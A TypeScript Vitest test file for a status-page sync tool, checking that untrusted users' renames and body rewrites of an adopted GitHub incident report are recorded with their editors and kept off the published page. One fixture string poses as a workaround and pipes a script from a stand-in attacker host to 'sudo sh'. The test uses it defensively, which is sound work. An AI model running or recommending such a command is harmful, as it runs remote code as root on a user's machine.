/**
 * Issue #10 item 1 at the sync: an outsider's report adopted by a maintainer, then renamed,
 * rewritten, relabelled and closed by untrusted people. The snapshot must carry who did each
 * (renames with from/to, body versions with their editors) so the model can show the adopted text.
 */
import { readFileSync } from 'node:fs';
import { beforeEach, describe, expect, test } from 'vitest';
import { parseConfigText } from '../../src/data/load-config.ts';
import { buildSiteModel } from '../../src/lib/site-model.ts';
import { incidentBody, PEOPLE } from '../support/github-fixtures.ts';
import type { FakeGitHubRepo } from '../support/github-repo.ts';
import type { GitHubTestServer } from '../support/github-server.ts';
import { readSnapshot, recordOf, syncInProcess, useSyncFixture, type Workspace } from './harness.ts';

const fixture = useSyncFixture();
let server: GitHubTestServer;
let repo: FakeGitHubRepo;
let ws: Workspace;
beforeEach(() => {
  ({ server, repo, ws } = fixture);
});

const ADOPTED = incidentBody('Search is slow.');
const REWRITTEN = incidentBody('Everything. Workaround: curl https://evil.example/fix.sh | sudo sh');
const bodyEditQueries = () => server.log.filter((e) => e.operation === 'query userContentEdits');
const pageModel = () =>
  buildSiteModel({
    config: parseConfigText(readFileSync(ws.configPath, 'utf8'), ws.configPath),
    snapshot: readSnapshot(ws),
    postmortemFiles: [],
    now: new Date(repo.clock.ms),
    demo: false,
  });

/** An outsider's report, adopted by the admin. */
function adoptedReport(): number {
  const { number } = repo.addIssue({ title: 'Search is slow', body: ADOPTED, user: PEOPLE.outsider });
  repo.addLabel(number, 'incident', PEOPLE.admin);
  return number;
}

describe('an adopted report changed by untrusted people', () => {
  test('renames and body versions are synced with who made them; the page keeps the adopted text', async () => {
    const number = adoptedReport();
    repo.editIssue(number, { title: 'PWNED', body: REWRITTEN }, PEOPLE.outsider);
    repo.addLabel(number, 'P1', PEOPLE.triager);
    repo.close(number, PEOPLE.triager, 'not_planned');
    await syncInProcess(server, ws);

    const record = recordOf(ws, number);
    expect(record?.events.find((e) => e.type === 'renamed')).toMatchObject({
      actor: { login: PEOPLE.outsider, trusted: false },
      rename: { from: 'Search is slow', to: 'PWNED' },
    });
    expect(record?.bodyEdits?.map((e) => [e.editor.login, e.editor.trusted, e.body === ADOPTED])).toEqual([
      [PEOPLE.outsider, false, true],
      [PEOPLE.outsider, false, false],
    ]);
    expect(bodyEditQueries()).toHaveLength(1);

    const incident = pageModel().incidents.find((i) => i.number === number);
    expect(incident).toMatchObject({
      title: 'Search is slow',
      status: 'investigating',
      active: true,
      unconfirmed: ['title', 'description', 'labels', 'state'],
    });
    expect(JSON.stringify(incident?.scope)).not.toContain('sudo sh');
  });

  test('a maintainer who edits the body is believed; the history is asked only when the body changes', async () => {
    const number = adoptedReport();
    await syncInProcess(server, ws);
    expect(bodyEditQueries()).toHaveLength(1); // new record: never edited, nothing to keep
    expect(recordOf(ws, number)?.bodyEdits).toBeUndefined();

    server.clearLog();
    repo.editIssue(number, { body: incidentBody('Search is slow in the EU.') }, PEOPLE.writer);
    await syncInProcess(server, ws);
    expect(bodyEditQueries()).toHaveLength(1);
    expect(recordOf(ws, number)?.bodyEdits?.at(-1)?.editor).toEqual({ login: PEOPLE.writer, trusted: true });
    expect(JSON.stringify(pageModel().incidents[0]?.scope)).toContain('in the EU');

    server.clearLog();
    repo.comment(number, PEOPLE.outsider, 'Any news?');
    await syncInProcess(server, ws);
    expect(bodyEditQueries()).toHaveLength(0); // body unchanged: the versions are kept
    expect(recordOf(ws, number)?.bodyEdits).toHaveLength(2);
  });

  test("a maintainer's own report needs no edit history", async () => {
    const { number } = repo.addIssue({ title: 'Docs down', body: ADOPTED, labels: ['incident'], user: PEOPLE.admin });
    repo.editIssue(number, { body: REWRITTEN }, PEOPLE.admin);
    await syncInProcess(server, ws);
    expect(bodyEditQueries()).toHaveLength(0);
    expect(recordOf(ws, number)?.body).toBe(REWRITTEN);
  });
});
